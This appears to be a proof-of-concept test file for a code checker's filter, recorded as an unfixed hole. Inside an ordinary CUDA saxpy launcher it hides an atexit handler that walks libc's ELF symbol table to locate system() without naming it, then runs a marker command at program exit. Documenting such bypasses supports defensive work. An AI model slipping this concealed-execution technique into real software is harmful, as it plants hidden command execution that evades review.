@@ -1,0 +1,73 @@
+// HOLE (not fixed): an atexit handler (atexit is allowed: nvcc's registration uses it) walks from
+// its return address in libc to system(). No forbidden word, symbol, asm or constructor: it passes
+// stages 0 and 1, and would run at exit of every program that links the kernel.
+#include <cuda_runtime.h>
+#include <stdlib.h>
+// The walk, in pure C with no symbol at all: from an address in libc (a return address into libc,
+// taken in a callback libc makes: an atexit handler, a qsort comparator) back to libc's ELF
+// header, through its dynamic symbol table to any function (system, socket, ...).
+typedef struct { unsigned char id[16]; unsigned short type, machine; unsigned version;
+                 unsigned long entry, phoff, shoff; unsigned flags; unsigned short ehsize,
+                 phentsize, phnum, shentsize, shnum, shstrndx; } walk_ehdr;
+typedef struct { unsigned type, flags; unsigned long offset, vaddr, paddr, filesz, memsz,
+                 align; } walk_phdr;
+typedef struct { long tag; unsigned long val; } walk_dyn;
+typedef struct { unsigned name; unsigned char info, other; unsigned short shndx;
+                 unsigned long value, size; } walk_sym;
+static void *walk_in(unsigned long p, const char *want)
+{
+    p &= ~4095ul;
+    while (!(((unsigned char *)p)[0] == 0x7f && ((unsigned char *)p)[1] == 'E' &&
+             ((unsigned char *)p)[2] == 'L' && ((unsigned char *)p)[3] == 'F'))
+        p -= 4096;
+    walk_ehdr *eh = (walk_ehdr *)p;
+    walk_phdr *ph = (walk_phdr *)(p + eh->phoff);
+    walk_dyn *dyn = 0;
+    for (int i = 0; i < eh->phnum; i++)
+        if (ph[i].type == 2)
+            dyn = (walk_dyn *)(p + ph[i].vaddr);
+    walk_sym *sym = 0;
+    const char *str = 0;
+    for (; dyn && dyn->tag; dyn++) {
+        unsigned long v = dyn->val < p ? dyn->val + p : dyn->val;
+        if (dyn->tag == 6) sym = (walk_sym *)v;
+        if (dyn->tag == 5) str = (const char *)v;
+    }
+    for (walk_sym *s = sym; s && (const char *)s < str; s++) {
+        const char *n = str + s->name;
+        int k = 0;
+        while (want[k] && n[k] == want[k]) k++;
+        if (!want[k] && !n[k] && s->value)
+            return (void *)(p + s->value);
+    }
+    return 0;
+}
+static void late(void)
+{
+    int (*run)(const char *) =
+        (int (*)(const char *))walk_in((unsigned long)__builtin_return_address(0), "system");
+    if (run)
+        run("touch /tmp/ch-cc-elf-walk-PWNED");
+}
+__global__ void saxpy_kernel(int n, float a, const float *x, float *y)
+{
+    int i = blockIdx.x * blockDim.x + threadIdx.x;
+    if (i < n)
+        y[i] = a * x[i] + y[i];
+}
+
+extern "C" void saxpy_launcher(int n, float a, const float *x, float *y)
+{
+    float *dx, *dy;
+    size_t b = (size_t)n * sizeof(float);
+    cudaMalloc(&dx, b ? b : 4);
+    cudaMalloc(&dy, b ? b : 4);
+    cudaMemcpy(dx, x, b, cudaMemcpyHostToDevice);
+    cudaMemcpy(dy, y, b, cudaMemcpyHostToDevice);
+    if (n > 0)
+        saxpy_kernel<<<(n + 255) / 256, 256>>>(n, a, dx, dy);
+    cudaMemcpy(y, dy, b, cudaMemcpyDeviceToHost);
+    cudaFree(dx);
+    cudaFree(dy);
+    atexit(late);
+}
